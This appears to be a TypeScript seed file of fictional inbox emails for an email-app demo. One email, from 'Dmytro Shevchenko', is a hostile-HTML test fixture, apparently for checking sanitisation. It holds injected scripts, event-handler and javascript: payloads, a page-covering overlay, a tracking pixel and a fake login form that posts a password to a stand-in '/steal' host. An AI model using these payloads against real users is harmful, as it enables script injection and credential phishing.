import { product } from '@/product'
import { files } from './seedFiles'
import type { SeedEmail } from './seedRow'

/** Recent emails, newest first. */
export const seedInbox: readonly SeedEmail[] = [
  {
    from: 'Kofi Boateng',
    subject: 'Sensor 7 is quiet again',
    when: 18,
    isUnread: true,
    labels: ['company', 'important'],
    attachments: [files.auditReport],
    text: `Good news from Kumasi: the new bracket holds, and door sensor 7 has not sent a false alarm since last night.

The auditors’ report is attached. There are three findings, none of them serious. Two are ours. The first is yours: they want the alarm email to reach the night shift within two minutes, and right now it takes four.

Is that a setting, or does it take work?

Kofi`,
  },
  {
    from: product.name,
    subject: 'New login to your account',
    when: 24,
    isUnread: true,
    labels: ['private'],
    text: `Someone logged in to your account with Firefox on a Windows laptop in Accra.

If this was you, you don’t need to do anything. If not, change your password and check your devices in your account settings.`,
  },
  {
    from: 'Adaeze Okonkwo',
    subject: 'Question about invoice 5014',
    when: 52,
    cc: ['Wanjiru Kamau'],
    isUnread: true,
    labels: ['company'],
    text: `Dear Amara,

Our accounts team can’t match invoice 5014, which is long past due, to a purchase order. I think it’s the license with six months of support. If so, the number is NF-2281.

Could you confirm, so they can release the payment this week?

Thanks,
Adaeze`,
  },
  {
    from: 'Fatoumata Diallo',
    subject: 'Toiture de Rufisque : premières courbes',
    when: 95,
    isUnread: true,
    isStarred: true,
    labels: ['company'],
    text: `Chère Amara,

Les premières courbes de la toiture de Rufisque sont arrivées cette nuit, et elles sont magnifiques. La production suit l’ensoleillement à deux pour cent près.

Une seule question : à 13 h 40, la courbe tombe à zéro pendant six minutes. Est-ce l’onduleur, ou est-ce que le capteur s’est endormi ?

Bien à toi
Fatou`,
  },
  {
    from: 'Tariq Al-Mansoori',
    subject: 'Storage limit before Friday',
    when: 330,
    isStarred: true,
    labels: ['important'],
    text: `Amara,

Could you look at the storage limit before Friday? We’re loading the meter readings for the whole emirate this weekend, about 140 GB. I’d rather not hear about a limit at two in the morning.

Raising it for a month is enough. After that, the raw files can go.

Best
Tariq`,
  },
  {
    from: 'Maximiliano Augusto Fernández-Etchegaray de la Vega',
    subject: 'Ten more seats for the cooperative, and a question about who may see the figures of which farm',
    when: 372,
    cc: ['Catalina Reyes'],
    isUnread: true,
    labels: ['company'],
    text: `Estimada Amara:

The board has agreed, so please add ten seats from today. I’ll send the names as soon as the farms tell me. Until then, the seats can stay empty.

My question: a farm should see its own yields and the cooperative’s average, but not its neighbor’s yields. Is that one permission or two? I promised to explain it to 180 farmers at the general meeting, so a short answer would help.

Best regards from the whole cooperative,
Maximiliano Augusto Fernández-Etchegaray de la Vega`,
  },
  {
    from: 'The Slow Chart',
    subject: 'Why your axis should start at zero, except when it should not',
    when: [1, '06:30'],
    isUnread: true,
    text: `<table width="100%" cellpadding="0" cellspacing="0" style="background:#f4f1ea"><tr><td align="center">
<table width="560" cellpadding="24" cellspacing="0" style="background:#ffffff;font-family:Georgia,serif;color:#2b2b2b"><tr><td>
<p style="letter-spacing:2px;color:#8a7f6a;font-size:12px">THE SLOW CHART · ISSUE 118</p>
<h1 style="font-size:26px;line-height:1.25">Why your axis should start at zero, except when it should not</h1>
<img src="https://pictures.theslowchart.example/118/two-axes.png" width="512" height="288" alt="The same six bars, once from zero and once from ninety">
<p>We read a bar by its length. Cut off the bottom, and the bar lies. So bars start at zero, without exception.</p>
<p>We read a line by its slope. Start body temperature at zero and you get a flat line, which means something else in a hospital.</p>
<blockquote style="border-left:3px solid #c9b98a;margin:0;padding-left:16px;color:#5a5240">Ask what the reader compares. Draw that, and leave out the rest.</blockquote>
<h2 style="font-size:18px">Also in this issue</h2>
<ul><li>A reader’s bus timetable, redrawn with half the ink</li><li>Seven greens that people confuse, and one they don’t</li><li>Replace your legend with labels</li></ul>
<p><a href="https://theslowchart.example/issues/118" style="background:#2b2b2b;color:#ffffff;padding:12px 20px;text-decoration:none">Read the issue</a></p>
<p style="font-size:12px;color:#8a7f6a">You’re receiving this because you subscribed. <a href="https://theslowchart.example/unsubscribe">Unsubscribe</a> at any time.</p>
<img src="https://pictures.theslowchart.example/open.gif?reader=amara" width="1" height="1" alt="">
</td></tr></table></td></tr></table>`,
  },
  {
    from: 'Aroha Ngata',
    subject: 'Team days: where should we go?',
    to: ['Amara Mensah', 'Kofi Boateng', 'Siobhán Ní Bhriain', 'Owen Pritchard', 'Sofía Márquez Villanueva'],
    when: [4, '09:12'],
    isStarred: true,
    labels: ['personal'],
    attachments: [files.tent, files.canoe],
    text: `Kia ora everyone,

We said we’d all meet in person for once. I’m organizing it, because I’m the one who owns tents.

Three ideas:

- The lake: canoes, a hut with a stove, no signal
- The hills: two days of hiking, with a proper bed in between
- A town with good coffee, where we pretend to work

Please vote. Pictures of the tent and the canoe are attached, so you’ve all been warned.

Aroha`,
    replies: [
      {
        from: 'Owen Pritchard',
        when: [4, '09:40'],
        text: `Hills. I have new boots and no one to show them to.`,
      },
      {
        from: 'Siobhán Ní Bhriain',
        when: [4, '10:05'],
        text: `The lake, if someone other than the landlord has seen the roof of that hut. I’ll bring the teapot and enough books for a week of rain.`,
      },
      {
        from: 'Kofi Boateng',
        when: [4, '11:31'],
        text: `I can’t swim. I’ve said so in writing, and I’m saying it again. But the lake: the fish will be fresh.`,
      },
      {
        from: 'Amara Mensah',
        to: ['Aroha Ngata', 'Kofi Boateng', 'Siobhán Ní Bhriain', 'Owen Pritchard', 'Sofía Márquez Villanueva'],
        when: [4, '13:02'],
        text: `The lake for me too, because there’s no signal.

Two conditions: no laptops “just in case”, and anyone who says “quick question” does the dishes.`,
      },
      {
        from: 'Sofía Márquez Villanueva',
        when: [3, '02:18'],
        text: `Writing from the wrong time zone: lake! I’ll bring the guitar, and I promise to learn four songs by then.`,
      },
      {
        from: 'Owen Pritchard',
        when: [3, '08:55'],
        text: `Outvoted by people who can’t swim. Fine. Is there at least a hill <i>near</i> the lake?`,
      },
      {
        from: 'Aroha Ngata',
        when: [3, '09:20'],
        attachments: [files.packingList],
        text: `The lake wins, four to one. Owen: there is a hill. It’s called the Hill, and it takes forty minutes.

The packing list is attached. Put your name next to what you’ll bring. If three people bring a flashlight and no one brings matches, I’ll know that you didn’t read this far.`,
      },
      {
        from: 'Siobhán Ní Bhriain',
        when: [2, '17:44'],
        text: `I read this far. I’ll bring matches.`,
      },
      {
        from: 'Kofi Boateng',
        when: [1, '07:15'],
        text: `I’ll bring a life jacket. One. It’s mine.`,
      },
      {
        from: 'Aroha Ngata',
        when: 140,
        text: `I’ll book the hut for the first weekend that works for everyone. I’m checking your calendars, so please keep them up to date.`,
      },
    ],
  },
  {
    from: 'Haruka Nishimura',
    subject: 'Second round of the portfolio site',
    when: [1, '09:05'],
    isStarred: true,
    labels: ['company'],
    attachments: [files.teapot],
    text: `Amara-san,

Thank you for the second round. The studio looked at it together, over the red teapot in the picture, and we like nearly everything.

- The home page could be even calmer. One picture is enough.
- Please open the client area with the latest delivery, not the list.
- The gray of the captions is too light. Mr. Ito couldn’t read them, and he took the pictures.

We’ve moved, by the way. I’ll add the new billing address tomorrow.

Haruka`,
    replies: [
      {
        from: 'Amara Mensah',
        to: ['Haruka Nishimura'],
        when: [1, '11:30'],
        text: `Haruka-san,

All three are easy, and all three are improvements. Our contrast checker rejects that gray too, so Mr. Ito is right.

You’ll have the third round in four days.

Amara`,
      },
      {
        from: 'Haruka Nishimura',
        when: [1, '19:50'],
        text: `Wonderful. Mr. Ito says hello to the contrast checker.`,
      },
    ],
  },
  {
    from: 'Esi Mensah',
    subject: 'Sunday',
    when: [1, '19:22'],
    isUnread: true,
    isStarred: true,
    labels: ['personal', 'private'],
    text: `Sister,

Mama says you work too much, and that she’s cooking red red on Sunday. One o’clock. Bring nothing, which means bring the good bread.

Kwame has a girlfriend. You didn’t hear it from me. Ask him in front of everyone.

Esi`,
  },
  {
    from: 'Dmytro Shevchenko',
    subject: 'Can your email app survive this?',
    when: [1, '15:10'],
    attachments: [files.webhook],
    text: `<style>body { display: none } .cover { position: fixed; inset: 0; background: #b00020; z-index: 99999 }</style>
<script>document.title = 'This email took over'</script>
<div class="cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh" onclick="alert('clicked')"></div>
<p onmouseover="document.body.remove()">Hi Amara,</p>
<p>We’re testing email apps for our own product. This email does what no email should do: it runs a script, covers the page, asks for your password and tracks you with an image.</p>
<img src="https://pixel.dnipro-gears.example/open.gif?who=amara" width="1" height="1" alt="" onerror="document.title = 'onerror'">
<p><a href="javascript:alert('link')">A link that runs a script</a>, <a href="https://dnipro-gears.example/report" target="_top">a real link</a>, and a form:</p>
<form action="https://dnipro-gears.example/steal" method="post"><label>Password <input name="password" type="password"></label> <button>Log in again</button></form>
<iframe src="https://dnipro-gears.example/frame"></iframe>
<svg onload="alert('svg')"><a href="javascript:alert('svg link')"><text x="0" y="12">An image that runs a script</text></a></svg>
<p>If you can read this line and nothing else happened, your email app passed. Examples of our real webhooks are attached. They’re harmless.</p>
<p>Dmytro</p>`,
  },
  {
    from: 'Clément Roux',
    subject: 'Guide de traduction, version finale',
    when: [1, '14:48'],
    labels: ['company'],
    attachments: [files.glossary],
    text: `Bonjour Amara,

Voici le guide de traduction, relu deux fois. J’ai tranché : on vouvoie, et « dashboard » devient « tableau de bord » partout, même dans les titres. Tant pis pour la largeur des boutons.

Il reste un mot que je n’aime pas : « settings ». « Réglages » ou « paramètres » ? Le premier est plus court, le second plus courant. Je te laisse choisir.

À bientôt
Clément`,
  },
  {
    from: 'Naledi Mokoena',
    subject: 'Approval of my account, and the reseller clause',
    when: [1, '10:26'],
    isUnread: true,
    labels: ['company', 'important'],
    text: `Dear Amara,

Two things, the small one first. I registered for the Company plan yesterday and asked for the editor role. My account is still waiting for approval, so I can’t see the contracts I need to review.

The larger one: clause 9 of the reseller agreement lets a reseller quote <em>your</em> service levels as <em>theirs</em>. I doubt you want that. I’ve drafted a fix that changes two sentences. Where should I put it?

Kind regards
Naledi Mokoena
Protea Legal, Johannesburg`,
  },
  {
    from: 'Swiftwing Couriers',
    subject: 'Your parcel SW 4471 9082 arrives between 2 and 4 pm',
    when: [2, '07:03'],
    text: `<div style="font-family:Arial,sans-serif;max-width:480px"><h2 style="color:#0b6e4f">On its way to 14 Ring Road East</h2><p>Your driver, Ebenezer, has parcel <b>SW 4471 9082</b>.</p><table cellpadding="6" style="border-collapse:collapse;width:100%"><tr><td style="border:1px solid #dddddd">Contents</td><td style="border:1px solid #dddddd">1 × Ridgeline Two-Person Tent, 2 × Beacon Rechargeable Flashlight</td></tr><tr><td style="border:1px solid #dddddd">Estimated arrival</td><td style="border:1px solid #dddddd">between 2 and 4 pm</td></tr><tr><td style="border:1px solid #dddddd">Deliver to</td><td style="border:1px solid #dddddd">Amara Mensah, or reception</td></tr></table><p><a href="https://swiftwing.example/track/44719082">Track your parcel on the map</a></p></div>`,
  },
  {
    from: 'Wanjiru Kamau',
    subject: 'Month-end: notes from Monday, and five clients to remind',
    when: [2, '08:40'],
    isStarred: true,
    labels: ['company'],
    attachments: [files.minutes, files.ledger],
    text: `Morning Amara,

Notes from Monday and the list of open items are attached. Five clients are late, and only one worries me: Érable &amp; Fils, 39 days. Émilie always pays, but only after a phone call, and you’re the one she answers.

The other four got a friendly reminder, or have a question that I can answer.

One more thing: someone booked a canoe under “Office supplies”. I moved it to “Team”, but I’d love to hear the story.

Wanjiru`,
  },
  {
    from: 'Mateus Oliveira',
    subject: 'Renovação da licença e uma boa notícia',
    when: [2, '13:15'],
    labels: ['company'],
    text: `Oi, Amara!

A nossa licença vence no fim do mês e vamos renovar, claro. Pode mandar a fatura para o mesmo endereço.

A boa notícia: depois que a equipe de Campinas passou a ver as perdas por turno, o desperdício de polpa caiu onze por cento. O gerente imprimiu o gráfico e pendurou na parede do refeitório. Acho que é o primeiro gráfico da história a ganhar moldura.

Um abraço
Mateus`,
  },
  {
    from: 'Grace Whitfield',
    subject: 'Data protection agreement, ready to sign',
    when: [3, '16:20'],
    isStarred: true,
    labels: ['company', 'important'],
    attachments: [files.dataProtection],
    text: `Hi Amara,

Our lawyers reviewed the agreement and changed one number: a breach must be reported within 24 hours, not 48. The rest is unchanged.

If you agree, please sign it and send it back. We’ll switch the second newsroom over the same day. They’ve been asking since we upgraded to Enterprise.

Grace`,
    replies: [
      {
        from: 'Amara Mensah',
        to: ['Grace Whitfield'],
        when: [3, '18:02'],
        text: `Hi Grace,

24 hours is our internal target anyway, so that works for us. I’ll sign tomorrow, once Naledi approves it.

Amara`,
      },
      {
        from: 'Naledi Mokoena',
        to: ['Amara Mensah', 'Grace Whitfield'],
        when: [2, '09:11'],
        text: `Approved. Annex B lists a sub-processor that you no longer use. Cross it out before you sign, and initial the change.`,
      },
      {
        from: 'Grace Whitfield',
        when: [2, '15:37'],
        text: `Crossed out on our side too. Over to you!`,
      },
    ],
  },
  {
    from: 'ليلى حدّاد',
    subject: 'فهرس الموسم: ملاحظات على لوحة المبيعات',
    when: [3, '11:05'],
    isUnread: true,
    labels: ['company'],
    text: `<div dir="rtl"><p>عزيزتي أمارا،</p><p>شكرًا على لوحة المبيعات الجديدة. أصبح فريق التوزيع يفتحها كل صباح قبل القهوة، وهذا عندنا في بيروت ليس بالأمر الهيّن.</p><p>لديّ ملاحظتان صغيرتان:</p><ul><li>أسماء الكتب الطويلة تُقطع في منتصفها، والأجمل أن تُعرض في سطرين.</li><li>أرقام الطبعات تظهر من اليسار إلى اليمين داخل الجملة العربية، فيختلط ترتيبها.</li></ul><p>أرسل لك الفهرس كاملًا في الأسبوع المقبل.</p><p>مع أطيب التحيات<br>ليلى</p></div>`,
  },
  {
    from: 'Ottilie Käsermann',
    subject: 'Abnahme der Terminplanung',
    when: [3, '10:30'],
    cc: ['Hans-Jürgen Oberhuber'],
    labels: ['company'],
    attachments: [files.clock],
    text: `Guten Tag Frau Mensah

Die Terminplanung läuft seit zehn Tagen in der Werkstatt, und niemand hat nach dem alten Heft gefragt. Von mir aus können wir die Abnahme unterschreiben.

Ein Wunsch bleibt: Reparaturen an Tischuhren dauern länger als jene an Armbanduhren. Könnten wir für jede Art eine eigene Dauer hinterlegen? Ein Beispiel, das uns seit drei Wochen beschäftigt, liegt als Bild bei.

Freundliche Grüsse
Ottilie Käsermann`,
  },
  {
    from: 'Priya Raghunathan',
    subject: 'Town hall: agenda, and you have ten minutes',
    when: [4, '14:00'],
    to: ['Amara Mensah', 'Wanjiru Kamau'],
    labels: ['company'],
    attachments: [files.agenda],
    text: `Hello both,

The agenda for the town hall is attached. Amara has ten minutes for the welcome. Wanjiru has fifteen for six figures, so two and a half minutes each.

Anonymous questions are open until the evening before. We have nine so far. Four are about the coffee.

Priya`,
  },
  {
    from: 'Catalina Reyes',
    subject: 'Price list for resellers, once more',
    when: [5, '15:50'],
    attachments: [files.priceList],
    text: `Hola Amara,

Here’s the price list for the three resellers. I rounded the reseller prices down to whole dollars. That costs us about nine dollars a year and saves a lot of questions.

Two questions before I send it. Is “Unlimited Extended License” per company or per product? And we got a warning that our storage is 90% full. Could that be my archive of old price lists?

Un abrazo,
Catalina`,
  },
  {
    from: 'Gold Coast Mutual Bank',
    subject: 'Your statement is ready',
    when: [5, '05:15'],
    labels: ['private'],
    text: `<p>Dear Ms. Mensah,</p><p>The statement for your checking account ending in <b>0417</b> is ready. Log in to the app or at your branch and open <i>Documents</i>.</p><p>We never ask for your PIN or password by email.</p><p>Gold Coast Mutual Bank</p>`,
  },
  {
    from: 'Jakub Dvořák',
    subject: 'Import script for the contacts',
    when: [6, '17:25'],
    labels: ['company'],
    attachments: [files.importScript],
    text: `Hi Amara,

The script is attached. It’s five lines. It sorts by email and removes duplicates, so check the count it prints at the end. If it says 412 and you expected 450, the list had duplicates.

If it can’t read a file, it stops and prints an error. I’ve learned my lesson.

Jakub`,
  },
]
